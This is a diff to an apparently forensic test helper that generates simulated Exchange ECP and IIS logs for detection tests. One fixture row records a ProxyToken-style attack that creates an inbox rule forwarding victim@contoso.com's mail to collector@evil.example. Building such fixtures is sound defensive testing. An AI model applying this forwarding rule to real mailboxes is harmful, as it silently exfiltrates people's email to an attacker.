@@ -12,6 +12,7 @@ from __future__ import annotations
 import os
 import random
 import shutil
+from datetime import datetime
 from pathlib import Path
 from typing import Any
 
@@ -25,7 +26,7 @@ CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "corpus"
 V15 = "C/Program Files/Microsoft/Exchange Server/V15"
 IIS_DIR = "C/inetpub/logs/LogFiles/W3SVC1"
 ECP_FIELDS = ("DateTime,ServerName,RequestId,ActivityId,ProcessId,ThreadId,AuthenticatedUser,ClientIpAddress,"
-              "UrlStem,HttpMethod,HttpStatus,Cmdlet,ActivityContextLifeTime,GenericInfo,GenericErrors").split(",")
+              "UrlStem,HttpMethod,HttpStatus,Cmdlet,ActivityContextLifeTime,GenericInfo,GenericErrors")
 # real crawler user agents, as IIS writes them ('+' for spaces); they equal crawler look-alikes of the
 # March 2021 indicator list
 CRAWLERS = ("Mozilla/5.0+(compatible;+bingbot/2.0;++http://www.bing.com/bingbot.htm)",
@@ -51,7 +52,6 @@ def write(root: Path, rel: str, text: str | bytes, mtime: str | None = None) -> 
     else:
         path.write_text(text, encoding="utf-8", newline="")
     if mtime:
-        from datetime import datetime
         stamp = datetime.fromisoformat(mtime.replace("Z", "+00:00")).timestamp()
         os.utime(path, (stamp, stamp))
     return path
@@ -285,7 +285,7 @@ def _proxytoken_host(tmp_path: Path, name: str, with_rule: bool) -> Path:
                     "S:CMD=New-InboxRule.Mailbox=victim@contoso.com;Name=.;ForwardTo=collector@evil.example,")
     write(host, f"{V15}/Logging/ECP/Server/ECPServer2021081509-1.LOG",
           "#Software: Microsoft Exchange Server\r\n#Version: 15.02.0858.005\r\n#Log-type: ECP Server Logs\r\n"
-          f"#Date: 2021-08-15T09:00:00.000Z\r\n#Fields: {','.join(ECP_FIELDS)}\r\n" + "\r\n".join(rows) + "\r\n")
+          f"#Date: 2021-08-15T09:00:00.000Z\r\n#Fields: {ECP_FIELDS}\r\n" + "\r\n".join(rows) + "\r\n")
     return host
 
 
